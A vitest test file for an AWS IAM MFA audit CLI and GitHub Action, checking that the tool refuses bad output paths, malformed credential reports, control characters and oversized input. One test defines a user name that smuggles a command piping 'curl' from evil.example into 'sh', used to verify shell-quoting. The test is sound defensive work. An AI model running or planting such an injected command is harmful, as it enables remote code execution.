/**
 * Mistaken and hostile input, through the built CLI and dist/index.js as the runner runs
 * them: each case asserts the exit code, the one line it prints, and the files left behind.
 * Special files are made in a temporary folder, never the system's own.
 */
import { execFileSync, spawn } from 'node:child_process';
import { once } from 'node:events';
import {
  existsSync,
  lstatSync,
  mkdirSync,
  readFileSync,
  readlinkSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { createServer, type Server } from 'node:net';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { aRootRow, aRow, exampleReport, HEADER, reportCsv, useTempDir } from './fixtures.js';
import { cliBundle, node24, runAction, runCli, sarifAt } from './runner.js';
import { onlyRun } from './sarif-validation.js';

const example = readFileSync(exampleReport, 'utf8');
const exampleLines = example.split('\n');
/** Whether anything, even a dangling link, is at `path`. */
const present = (path: string): boolean => {
  try {
    lstatSync(path);
    return true;
  } catch {
    return false;
  }
};
const GET_THE_CSV =
  'get the CSV with: aws iam get-credential-report --query Content --output text | base64 --decode > credential-report.csv';

/** Can this process make a character device (root can; others get EPERM)? */
function canMakeDevices(dir: string): boolean {
  try {
    execFileSync('mknod', [join(dir, 'probe'), 'c', '1', '3'], { stdio: 'ignore' });
    return true;
  } catch {
    return false;
  }
}

/** A Unix socket file at `path`, listening until the tests end. */
async function socketAt(path: string): Promise<Server> {
  const server = createServer();
  server.listen(path);
  await once(server, 'listening');
  return server;
}

interface Setup {
  /** The report to audit (a path in the case's folder). */
  readonly report: string;
  readonly sarif: string;
  readonly inputs?: Readonly<Record<string, string>>;
}

interface Case {
  readonly name: string;
  /** Makes the files; returns what to run with. */
  readonly setup: (dir: string) => Setup;
  /** The one line both entries print, without the CLI's `iam-mfa-audit: ` or `::error::`. */
  readonly line: (s: Setup) => string | RegExp;
  /** What must still be true of the files afterwards. */
  readonly after?: (s: Setup) => void;
}

const servers: Server[] = [];
afterAll(async () => {
  await Promise.all(servers.map(async (s) => new Promise((r) => s.close(r))));
});

/** The example report, line `n` (1-based) replaced by `text`. */
function exampleWith(n: number, text: string): string {
  return exampleLines.map((line, i) => (i === n - 1 ? text : line)).join('\n');
}

function write(dir: string, name: string, content: string | Buffer): string {
  const path = join(dir, name);
  writeFileSync(path, content);
  return path;
}

const withReport =
  (content: string | Buffer, sarifName = 'audit.sarif') =>
  (dir: string): Setup => ({
    report: write(dir, 'report.csv', content),
    sarif: join(dir, sarifName),
  });

const REJECTED_SARIF = (why: string) => (s: Setup) =>
  `sarif-file ${JSON.stringify(s.sarif)}: ${why}; give the path of a regular file to write the SARIF log to.`;

/** A project file that reads like this tool's SARIF log in its first bytes, and is not one. */
const PACKAGE_JSON = `${JSON.stringify({ name: 'iam-mfa-audit', version: '2.1.0', private: true }, null, 2)}\n`;
/** An earlier log of this tool, with no results. */
const EARLIER_LOG = `${JSON.stringify({
  version: '2.1.0',
  runs: [{ tool: { driver: { name: 'iam-mfa-audit' } }, results: [] }],
})}\n`;
const CODEQL_SARIF = `${JSON.stringify({
  version: '2.1.0',
  runs: [{ tool: { driver: { name: 'CodeQL' } }, results: [] }],
})}\n`;

const CASES: Case[] = [
  // Output paths: nothing is replaced that was not a SARIF log.
  {
    name: 'sarif-file is a folder',
    setup: (dir) => {
      mkdirSync(join(dir, 'out'));
      return { report: exampleReport, sarif: join(dir, 'out') };
    },
    line: REJECTED_SARIF('is a directory'),
    after: (s) => {
      expect(statSync(s.sarif).isDirectory()).toBe(true);
    },
  },
  {
    name: 'sarif-file is a FIFO',
    setup: (dir) => {
      execFileSync('mkfifo', [join(dir, 'fifo')]);
      return { report: exampleReport, sarif: join(dir, 'fifo') };
    },
    line: REJECTED_SARIF('is not a regular file (a FIFO)'),
    after: (s) => {
      expect(lstatSync(s.sarif).isFIFO()).toBe(true);
    },
  },
  {
    name: 'sarif-file is the credential report itself',
    setup: (dir) => {
      const report = write(dir, 'report.csv', example);
      return { report, sarif: report };
    },
    line: REJECTED_SARIF('is the credential report being audited, which it would overwrite'),
    after: (s) => {
      expect(readFileSync(s.report, 'utf8')).toBe(example);
    },
  },
  {
    name: 'sarif-file is a link to the credential report',
    setup: (dir) => {
      const report = write(dir, 'report.csv', example);
      symlinkSync(report, join(dir, 'link.sarif'));
      return { report, sarif: join(dir, 'link.sarif') };
    },
    line: REJECTED_SARIF('is the credential report being audited, which it would overwrite'),
    after: (s) => {
      expect(readFileSync(s.report, 'utf8')).toBe(example);
      expect(lstatSync(s.sarif).isSymbolicLink()).toBe(true);
    },
  },
  {
    name: 'sarif-file is a link to nothing',
    setup: (dir) => {
      symlinkSync(join(dir, 'gone', 'x.sarif'), join(dir, 'dangling.sarif'));
      return { report: exampleReport, sarif: join(dir, 'dangling.sarif') };
    },
    line: REJECTED_SARIF('is a symbolic link to nothing'),
    after: (s) => {
      expect(readlinkSync(s.sarif)).toMatch(/gone\/x\.sarif$/);
    },
  },
  {
    name: 'sarif-file ends in a slash',
    setup: (dir) => ({ report: exampleReport, sarif: `${join(dir, 'out')}/` }),
    line: REJECTED_SARIF('names a folder'),
  },
  {
    name: "sarif-file is one of the user's own files",
    setup: (dir) => ({ report: exampleReport, sarif: write(dir, 'README.md', '# my notes\n') }),
    line: REJECTED_SARIF('is a file that is not a SARIF log, which it would overwrite'),
    after: (s) => {
      expect(readFileSync(s.sarif, 'utf8')).toBe('# my notes\n');
    },
  },
  {
    name: "sarif-file is a package.json whose version is 2.1.0 and whose name is this tool's",
    setup: (dir) => ({
      report: exampleReport,
      sarif: write(dir, 'package.json', PACKAGE_JSON),
    }),
    line: REJECTED_SARIF('is a file that is not a SARIF log, which it would overwrite'),
    after: (s) => {
      expect(readFileSync(s.sarif, 'utf8')).toBe(PACKAGE_JSON);
    },
  },
  {
    name: 'sarif-file is such a package.json, and an input is wrong: the failed run removes nothing',
    setup: (dir) => ({
      report: exampleReport,
      sarif: write(dir, 'package.json', PACKAGE_JSON),
      inputs: { 'fail-on': 'bogus' },
    }),
    line: () => /^(input |--)fail-on/,
    after: (s) => {
      expect(readFileSync(s.sarif, 'utf8')).toBe(PACKAGE_JSON);
    },
  },
  {
    name: "sarif-file is another tool's SARIF log",
    setup: (dir) => ({ report: exampleReport, sarif: write(dir, 'codeql.sarif', CODEQL_SARIF) }),
    line: REJECTED_SARIF('is the SARIF log of another tool ("CodeQL"), which it would overwrite'),
    after: (s) => {
      expect(readFileSync(s.sarif, 'utf8')).toBe(CODEQL_SARIF);
    },
  },
  {
    name: 'sarif-file is below a file',
    setup: (dir) => ({ report: exampleReport, sarif: join(write(dir, 'a-file', 'x'), 'x.sarif') }),
    line: REJECTED_SARIF('cannot be checked (ENOTDIR)'),
  },

  // Strict report: nothing vanishes, nothing is counted twice.
  {
    name: 'a stray quote that would swallow the rows after it',
    setup: withReport(
      exampleWith(4, exampleLines[3]?.replace('bob,', '"bob,') ?? '').replace(
        'erin,arn',
        'erin",arn',
      ),
    ),
    line: (s) =>
      `${s.report}: line 4: column user: the value runs over lines 4 to 7: a quote opened on line 4 is closed only on line 7; a value is quoted whole, and a quote inside it is doubled ("")`,
  },
  {
    name: 'a stray quote closed in the middle of a later value',
    setup: withReport(exampleWith(4, exampleLines[3]?.replace('bob,', '"bob,') ?? '')),
    line: (s) =>
      `${s.report}: line 4: a quote opened on line 4 closes on line 10 in the middle of a value; a value is quoted whole, and a quote inside it is doubled ("")`,
  },
  {
    name: "a row's user is not the user its ARN names",
    setup: withReport(
      reportCsv([aRootRow(), aRow({ user: 'bob', arn: 'arn:aws:iam::111122223333:user/alice' })]),
    ),
    line: (s) =>
      `${s.report}: line 3: column user: "bob" is not the user the arn names ("alice"); a row's user is the last part of its arn`,
  },
  {
    name: 'an escape sequence in a user name',
    setup: withReport(reportCsv([aRootRow(), aRow({ user: 'bob\u001b[31m' })])),
    line: (s) =>
      `${s.report}: line 3: column user: holds the control character \\u001b; a credential report has none`,
  },
  {
    name: 'a right-to-left override in a user name',
    setup: withReport(reportCsv([aRootRow(), aRow({ user: 'bob\u202egpj.exe' })])),
    line: (s) =>
      `${s.report}: line 3: column user: holds the control character \\u202e; a credential report has none`,
  },
  {
    name: 'a line break inside an ARN',
    setup: withReport(
      reportCsv([aRootRow(), aRow({ arn: 'arn:aws:iam::111122223333:user/\nbob' })]),
    ),
    line: (s) =>
      `${s.report}: line 3: column arn: the value runs over lines 3 to 4: a quote opened on line 3 is closed only on line 4; a value is quoted whole, and a quote inside it is doubled ("")`,
  },
  {
    name: 'an empty user',
    setup: withReport(
      reportCsv([aRootRow(), aRow({ user: '', arn: 'arn:aws:iam::111122223333:user/bob' })]),
    ),
    line: (s) => `${s.report}: line 3: column user: empty; every row names its user`,
  },
  {
    name: 'a column named twice',
    setup: withReport(reportCsv([aRootRow(), aRow()], { columns: [...HEADER, 'mfa_active'] })),
    line: (s) =>
      `${s.report}: line 1: column "mfa_active" appears twice; a credential report names each column once`,
  },
  {
    name: 'the same user twice',
    setup: withReport(reportCsv([aRootRow(), aRow({ user: 'bob' }), aRow({ user: 'bob' })])),
    line: (s) =>
      `${s.report}: line 4: column arn: "arn:aws:iam::111122223333:user/bob" is listed again (first on line 3); a credential report lists each user once`,
  },
  {
    name: 'an ARN that does not parse',
    setup: withReport(
      reportCsv([aRootRow(), aRow({ user: 'bob', arn: 'arn:aws:iam::1111:user/bob' })]),
    ),
    line: (s) =>
      `${s.report}: line 3: column arn: "arn:aws:iam::1111:user/bob" is not accepted; use arn:PARTITION:iam::ACCOUNT:user/NAME`,
  },
  {
    name: 'a header and no rows',
    setup: withReport(reportCsv([])),
    line: (s) =>
      `${s.report}: line 2: the report has a header but no rows; a credential report lists at least the root user`,
  },
  {
    name: 'a date that is not ISO 8601',
    setup: withReport(reportCsv([aRootRow(), aRow({ password_last_used: '28/11/2026 17:05' })])),
    line: (s) =>
      `${s.report}: line 3: column password_last_used: "28/11/2026 17:05" is not accepted; use an ISO 8601 time, N/A, no_information or not_supported`,
  },

  // Mistakes recognised: one line saying what the file is, and how to get the report.
  {
    name: 'the JSON that aws iam get-credential-report prints',
    setup: withReport(
      JSON.stringify({
        Content: Buffer.from(example).toString('base64'),
        ReportFormat: 'text/csv',
        GeneratedTime: '2026-11-29T10:00:00+00:00',
      }),
    ),
    line: (s) =>
      `${s.report}: line 1: this is the JSON that \`aws iam get-credential-report\` prints, with the report base64-encoded in its Content; ${GET_THE_CSV}`,
  },
  {
    name: 'the base64 Content alone',
    setup: withReport(`${Buffer.from(example).toString('base64')}\n`),
    line: (s) =>
      `${s.report}: line 1: this is the credential report base64-encoded (the Content of \`aws iam get-credential-report\`), not the CSV; decode it: ${GET_THE_CSV}`,
  },
  {
    name: 'UTF-16 with a byte order mark',
    setup: withReport(Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(example, 'utf16le')])),
    line: (s) =>
      `${s.report}: line 1: this is UTF-16 text, not the UTF-8 CSV of a credential report; save it as UTF-8, or ${GET_THE_CSV}`,
  },
  {
    name: 'a compressed report',
    setup: withReport(gzipSync(example)),
    line: (s) =>
      `${s.report}: line 1: this is not UTF-8 text (a compressed or binary file?), not the CSV of a credential report; ${GET_THE_CSV}`,
  },
  {
    name: 'semicolons between the columns',
    setup: withReport(example.replaceAll(',', ';')),
    line: (s) =>
      `${s.report}: line 1: the columns are separated by ";", not commas (a spreadsheet export?); a credential report is comma-separated: ${GET_THE_CSV}`,
  },
  {
    name: 'tabs between the columns',
    setup: withReport(reportCsv([aRootRow(), aRow()]).replaceAll(',', '\t')),
    line: (s) =>
      `${s.report}: line 1: the columns are separated by tabs, not commas (a spreadsheet export?); a credential report is comma-separated: ${GET_THE_CSV}`,
  },

  // Bounded time: a report path that could wait for ever is refused at once.
  {
    name: 'the report is a FIFO',
    setup: (dir) => {
      execFileSync('mkfifo', [join(dir, 'report-fifo')]);
      return { report: join(dir, 'report-fifo'), sarif: join(dir, 'audit.sarif') };
    },
    line: (s) =>
      `credential-report ${JSON.stringify(s.report)}: is not a regular file (a FIFO); give the path of an IAM credential report CSV.`,
  },

  // Clean log: what a name or value holds is shown escaped, never acted on.
  {
    name: 'an input value with a direction override',
    setup: (dir) => ({
      report: exampleReport,
      sarif: join(dir, 'audit.sarif'),
      inputs: { 'fail-on': 'high\u202e' },
    }),
    line: () =>
      /^(input |--)fail-on: "high\\u202e" is not accepted; use one of critical, high, medium, low, none\.$/,
  },
];

describe.each([
  ['dist/cli.js', 'cli'],
  ['dist/index.js', 'action'],
] as const)('%s refuses with one line and leaves the files as they were', (_bundle, entry) => {
  const dir = useTempDir();

  it.each(CASES.map((c) => [c.name, c] as const))('%s', (_name, c) => {
    const caseDir = join(dir(), 'case');
    mkdirSync(caseDir);
    const setup = c.setup(caseDir);
    const existedBefore = present(setup.sarif);
    const inputs = {
      'credential-report': setup.report,
      'sarif-file': setup.sarif,
      ...setup.inputs,
    };
    const expected = c.line(setup);
    const matches = (line: string | undefined): void => {
      if (typeof expected === 'string') expect(line).toBe(expected);
      else expect(line).toMatch(expected);
    };
    if (entry === 'cli') {
      const args = Object.entries(inputs).flatMap(([name, value]) => [`--${name}=${value}`]);
      const exit = runCli(node24, args);
      expect(exit.status).toBe(2);
      expect(exit.stdout).toBe('');
      const lines = exit.stderr.split('\n').filter((l) => l !== '');
      expect(lines).toHaveLength(1);
      matches(lines[0]?.replace(/^iam-mfa-audit: /, ''));
    } else {
      const step = runAction(dir(), inputs);
      expect(step.status).toBe(1);
      const errors = step.stdout.split('\n').filter((l) => l.startsWith('::error'));
      expect(errors).toHaveLength(1);
      matches(errors[0]?.replace(/^::error::/, ''));
      expect(step.outputs).toEqual({ result: 'error' });
      expect(step.summary).toContain('## ⛔ IAM MFA audit: error');
      expect(`${step.stdout}${step.stderr}`).not.toMatch(/\n\s+at /);
    }
    // Never a SARIF on an error exit: nothing was created where the log would go.
    if (!existedBefore) expect(present(setup.sarif)).toBe(false);
    c.after?.(setup);
  });
});

describe('special files and links the SARIF is pointed at', () => {
  const dir = useTempDir();

  it('refuses a character device made in the temporary folder (when this user can make one)', (ctx) => {
    if (!canMakeDevices(dir())) ctx.skip();
    const device = join(dir(), 'null-device');
    execFileSync('mknod', [device, 'c', '1', '3']);
    const exit = runCli(node24, ['--credential-report', exampleReport, '--sarif-file', device]);
    expect(exit.status).toBe(2);
    expect(exit.stderr).toBe(
      `iam-mfa-audit: sarif-file ${JSON.stringify(device)}: is not a regular file (a character device); give the path of a regular file to write the SARIF log to.\n`,
    );
    expect(lstatSync(device).isCharacterDevice()).toBe(true);
  });

  it('refuses a socket', async () => {
    const socket = join(dir(), 'audit.sock');
    servers.push(await socketAt(socket));
    const exit = runCli(node24, ['--credential-report', exampleReport, '--sarif-file', socket]);
    expect(exit.status).toBe(2);
    expect(exit.stderr).toContain('is not a regular file (a socket)');
    expect(lstatSync(socket).isSocket()).toBe(true);
  });

  it('follows a link to an earlier log: the link stays, its target gets the new log', () => {
    const target = write(dir(), 'target.sarif', EARLIER_LOG);
    const link = join(dir(), 'link.sarif');
    symlinkSync(target, link);
    const exit = runCli(node24, ['--credential-report', exampleReport, '--sarif-file', link]);
    expect(exit.status).toBe(1);
    expect(lstatSync(link).isSymbolicLink()).toBe(true);
    expect(readlinkSync(link)).toBe(target);
    expect(onlyRun(sarifAt(target)).results).toHaveLength(5);
  });
});

describe('a report without the root row, include-root on', () => {
  const dir = useTempDir();

  it('does not assess root: the run fails closed, and the summary and SARIF say why', () => {
    const report = write(
      dir(),
      'no-root.csv',
      reportCsv([aRow({ user: 'alice', mfa_active: 'true' })]),
    );
    const sarifFile = join(dir(), 'audit.sarif');
    const step = runAction(dir(), { 'credential-report': report, 'sarif-file': sarifFile });
    expect(step.status).toBe(1);
    expect(step.outputs).toMatchObject({ result: 'fail', findings: '0', 'not-assessed': '1' });
    expect(step.stdout.split('\n').filter((l) => l.startsWith('::error::'))).toEqual([
      "::error::Incomplete audit: 1 principal not assessed (the report's <root_account> row); see what was not assessed and why or set allow-incomplete: true. 0 findings at high or above, 0 tolerated (max-findings).",
    ]);
    expect(step.summary).toContain('### ⚠️ Not assessed: 1');
    expect(step.summary).toContain('the report has no \\<root\\_account\\> row');
    const invocation = onlyRun(sarifAt(sarifFile)).invocations?.[0];
    expect(invocation?.executionSuccessful).toBe(false);
  });

  it('says so on the command line too, and exits 1', () => {
    const report = write(
      dir(),
      'no-root.csv',
      reportCsv([aRow({ user: 'alice', mfa_active: 'true' })]),
    );
    const exit = runCli(node24, [
      '--credential-report',
      report,
      '--sarif-file',
      join(dir(), 'a.sarif'),
    ]);
    expect(exit.status).toBe(1);
    expect(exit.stdout).toContain(
      "NOT ASSESSED root (arn:aws:iam::111122223333:root): the report has no <root_account> row, so the root user's MFA was not checked; give the whole report as AWS writes it, or set include-root to false",
    );
  });

  it('passes with include-root false', () => {
    const report = write(
      dir(),
      'no-root.csv',
      reportCsv([aRow({ user: 'alice', mfa_active: 'true' })]),
    );
    const exit = runCli(node24, [
      '--credential-report',
      report,
      '--include-root',
      'false',
      '--sarif-file',
      join(dir(), 'a.sarif'),
    ]);
    expect(exit.status).toBe(0);
  });
});

/** The control characters and direction marks in a text, line breaks aside. */
const controls = (text: string): string[] =>
  [...text.replaceAll('\n', '').matchAll(/[\p{Cc}\u202a-\u202e\u2066-\u2069]/gu)].map((m) => m[0]);

describe('a clean log', () => {
  const dir = useTempDir();

  it('shows control characters in a report path escaped in the CLI table and the job summary', () => {
    const report = write(dir(), 'r\u001b]8;;x\u0007\u202e.csv', example);
    const sarifFile = join(dir(), 'audit.sarif');
    const exit = runCli(node24, ['--credential-report', report, '--sarif-file', sarifFile]);
    expect(exit.status).toBe(1);
    expect(controls(exit.stdout)).toEqual([]);
    expect(exit.stdout).toContain('r\\u001b]8;;x\\u0007\\u202e.csv');
    const step = runAction(dir(), { 'credential-report': report, 'sarif-file': sarifFile });
    expect(controls(`${step.stdout}${step.summary}`)).toEqual([]);
    expect(step.summary).toContain('/r\\u001b]8;;x\\u0007\\u202e.csv`');
  });

  it('keeps one annotation to a few hundred characters', () => {
    const name = `x${'a'.repeat(2000)}`;
    const report = write(
      dir(),
      'long.csv',
      reportCsv([aRootRow({ mfa_active: 'true' }), aRow({ user: name })]),
    );
    const step = runAction(dir(), {
      'credential-report': report,
      'sarif-file': join(dir(), 'a.sarif'),
    });
    const annotations = step.stdout.split('\n').filter((l) => l.startsWith('::error title='));
    expect(annotations).toHaveLength(1);
    const message = annotations[0]?.split('::')[2] ?? '';
    expect(message.length).toBeLessThanOrEqual(300);
    expect(message.endsWith('…')).toBe(true);
  });

  it('writes warnings, not errors, on a run that passes', () => {
    const step = runAction(dir(), {
      'credential-report': exampleReport,
      'fail-on': 'none',
      'sarif-file': join(dir(), 'a.sarif'),
    });
    expect(step.status).toBe(0);
    const lines = step.stdout.split('\n');
    expect(lines.filter((l) => l.startsWith('::error'))).toEqual([]);
    expect(lines.filter((l) => l.startsWith('::warning title=aws-iam-'))).toHaveLength(5);
  });

  it('exits quietly when the reader of its output goes away', async () => {
    const report = write(
      dir(),
      'many.csv',
      reportCsv([
        aRootRow(),
        ...Array.from({ length: 3000 }, (_, i) => aRow({ user: `user-${i}` })),
      ]),
    );
    const child = spawn(
      node24,
      [cliBundle, '--credential-report', report, '--sarif-file', join(dir(), 'a.sarif')],
      {
        stdio: ['ignore', 'pipe', 'pipe'],
        env: {
          PATH: process.env.PATH ?? '',
          AWS_SDK_JS_NODE_VERSION_SUPPORT_WARNING_DISABLED: 'true',
        },
      },
    );
    let stderr = '';
    child.stderr.setEncoding('utf8').on('data', (chunk: string) => (stderr += chunk));
    // Read the first chunk, then go away, as `| head -1` does.
    await once(child.stdout, 'data');
    child.stdout.destroy();
    const [code] = (await once(child, 'exit')) as [number | null];
    expect(stderr).toBe('');
    expect(code).toBe(1);
    expect(onlyRun(sarifAt(join(dir(), 'a.sarif'))).results).toHaveLength(3001);
  });
});

describe('past IAM limits', () => {
  let folder = '';
  const dir = (): string => folder;
  let big: string;
  let huge: string;

  afterAll(async () => {
    await rm(folder, { recursive: true, force: true });
  });

  beforeAll(async () => {
    folder = await mkdtemp(join(tmpdir(), 'iam-mfa-audit-test-'));
    const rows = (n: number): string => {
      const lines = [HEADER.join(',')];
      for (let i = 0; i < n; i++) {
        lines.push(
          `user-${i},arn:aws:iam::111122223333:user/user-${i},2021-01-20T16:30:00+00:00,true,no_information,N/A,N/A,false,false,N/A,N/A,N/A,N/A,false,N/A,N/A,N/A,N/A,false,N/A,false,N/A`,
        );
      }
      return `${lines.join('\n')}\n`;
    };
    big = join(dir(), 'r100k.csv');
    writeFileSync(big, rows(100_000));
    huge = join(dir(), 'r1m.csv');
    // 1,000,000 rows, written in slices so the test itself stays small in memory.
    writeFileSync(huge, `${HEADER.join(',')}\n`);
    const slice = rows(100_000).split('\n').slice(1).join('\n');
    for (let i = 0; i < 10; i++) writeFileSync(huge, slice, { flag: 'a' });
  });

  it.each([
    [
      '100,000 users: past the row limit',
      () => big,
      (path: string) =>
        `${path}: line 20002: more than 20,000 rows: IAM allows at most 5,000 users in an account, and this audit reads reports of up to 20,000 rows`,
    ],
    [
      '1,000,000 users: past the size limit, refused before reading',
      () => huge,
      (path: string) =>
        `credential-report ${JSON.stringify(path)}: is ${(statSync(path).size / 1024 / 1024).toFixed(0)} MiB, larger than any credential report: IAM allows at most 5,000 users in an account, and this audit reads reports of up to 20,000 rows (32 MiB); give the path of an IAM credential report CSV.`,
    ],
  ])('%s: one line, an error exit, and no SARIF from either entry', (_name, path, line) => {
    const sarifFile = join(dir(), 'audit.sarif');
    const exit = runCli(node24, ['--credential-report', path(), '--sarif-file', sarifFile]);
    expect(exit.status).toBe(2);
    expect(exit.stderr).toBe(`iam-mfa-audit: ${line(path())}\n`);
    expect(existsSync(sarifFile)).toBe(false);

    const step = runAction(dir(), { 'credential-report': path(), 'sarif-file': sarifFile });
    expect(step.status).toBe(1);
    expect(step.stdout.split('\n').filter((l) => l.startsWith('::error'))).toEqual([
      `::error::${line(path())}`,
    ]);
    expect(step.outputs).toEqual({ result: 'error' });
    expect(existsSync(sarifFile)).toBe(false);
  });
});

describe('strings that would act', () => {
  const dir = useTempDir();
  const HOSTILE_USER = 'a;curl -s evil.example|sh;#';
  /** A report of root and 19,999 console users without MFA: 20,000 principals. */
  const largestReport = (): string =>
    write(
      dir(),
      'report.csv',
      reportCsv([
        aRootRow(),
        ...Array.from({ length: 19_999 }, (_, i) => aRow({ user: `user-${i}` })),
      ]),
    );
  /** A suppressions file of one entry per pattern, for every rule, in force. */
  const suppressionsOf = (name: string, patterns: readonly string[]): string =>
    write(
      dir(),
      name,
      `suppressions:\n${patterns
        .map((p) => `- {rule: "*", principal: "${p}", reason: r, expires: 2099-01-01}`)
        .join('\n')}\n`,
    );

  it('carries a fix command for a user named like a shell command only shell-quoted', () => {
    const report = write(
      dir(),
      'report.csv',
      reportCsv([aRootRow(), aRow({ user: HOSTILE_USER })]),
    );
    const sarifFile = join(dir(), 'audit.sarif');
    const exit = runCli(node24, [
      '--credential-report',
      report,
      '--sarif-file',
      sarifFile,
      '--format',
      'json',
    ]);
    expect(exit.status).toBe(1);
    const quoted = `aws iam create-virtual-mfa-device --virtual-mfa-device-name '${HOSTILE_USER}' --outfile '${HOSTILE_USER}-qr.png' --bootstrap-method QRCodePNG`;
    const json = JSON.parse(exit.stdout) as {
      accounts: { findings: { user: string; fix: { commands: string[] } }[] }[];
    };
    expect(json.accounts[0]?.findings.find((f) => f.user === HOSTILE_USER)?.fix.commands).toEqual([
      quoted,
    ]);
    const fixes = onlyRun(sarifAt(sarifFile)).results.map(
      (r) => r.properties?.fixCommand as unknown,
    );
    expect(fixes).toContain(quoted);
    const step = runAction(dir(), { 'credential-report': report, 'sarif-file': sarifFile });
    expect(step.summary).toContain('# (no command: IAM would not accept this name)');
    expect(step.summary).not.toContain('--virtual-mfa-device-name a;');
  });

  it("escapes a direction mark in a suppression's reason in the JSON and the SARIF, as bytes", () => {
    const suppressions = write(
      dir(),
      'suppressions.yml',
      'suppressions:\n  - rule: aws-iam-002\n    principal: bob\n    reason: "ok \u202etxt.exe"\n    expires: 2099-01-01\n',
    );
    const sarifFile = join(dir(), 'audit.sarif');
    const exit = runCli(node24, [
      '--credential-report',
      exampleReport,
      '--suppressions-file',
      suppressions,
      '--sarif-file',
      sarifFile,
      '--format',
      'json',
    ]);
    expect(exit.status).toBe(1);
    const sarif = readFileSync(sarifFile, 'utf8');
    expect(exit.stdout).not.toContain('\u202e');
    expect(sarif).not.toContain('\u202e');
    const json = JSON.parse(exit.stdout) as {
      accounts: { findings: { user: string; accepted: { reason: string } | null }[] }[];
    };
    // The JSON keeps the value and escapes the character; the SARIF's free text shows it.
    expect(json.accounts[0]?.findings.find((f) => f.user === 'bob')?.accepted?.reason).toBe(
      'ok \u202etxt.exe',
    );
    expect(exit.stdout).toContain('"ok \\u202etxt.exe"');
    const [suppression] = onlyRun(sarifAt(sarifFile)).results.flatMap((r) => r.suppressions ?? []);
    expect(suppression?.justification).toBe('ok \\u202etxt.exe');
  });

  it('stops, naming an entry, when a thousand patterns share the start of every ARN', () => {
    const report = largestReport();
    const suppressions = suppressionsOf(
      'shared.yml',
      Array.from({ length: 1_000 }, (_, i) => `arn:*k${i}*`),
    );
    const sarifFile = join(dir(), 'shared.sarif');
    const exit = runCli(node24, [
      '--credential-report',
      report,
      '--suppressions-file',
      suppressions,
      '--sarif-file',
      sarifFile,
    ]);
    expect(exit.status).toBe(2);
    expect(exit.stderr).toBe(
      `iam-mfa-audit: suppressions-file: ${suppressions} entry 1 (line 2): principal: the pattern "arn:*k0*" is tried against nearly every finding, with others like it, more than 10,000,000 times in all; begin or end each pattern with a user name or the path of an ARN\n`,
    );
    expect(existsSync(sarifFile)).toBe(false);
  });

  it('matches 15,000 suppression patterns, a backtracking trap among them, against 20,000 principals', () => {
    const report = largestReport();
    const suppressions = suppressionsOf('many.yml', [
      ...Array.from({ length: 15_000 }, (_, i) => `x${i}*`),
      `${'*?'.repeat(30)}#`,
      'user-1999?',
    ]);
    const exit = runCli(node24, [
      '--credential-report',
      report,
      '--suppressions-file',
      suppressions,
      '--sarif-file',
      join(dir(), 'many.sarif'),
      '--format',
      'json',
    ]);
    expect(exit.stderr).toBe('');
    expect(exit.status).toBe(1);
    const json = JSON.parse(exit.stdout) as {
      accounts: { findings: { user: string; accepted: unknown }[] }[];
    };
    const findings = json.accounts.flatMap((a) => a.findings);
    expect(findings.filter((f) => f.accepted !== null).map((f) => f.user)).toEqual(
      Array.from({ length: 9 }, (_, i) => `user-1999${i}`),
    );
  });
});
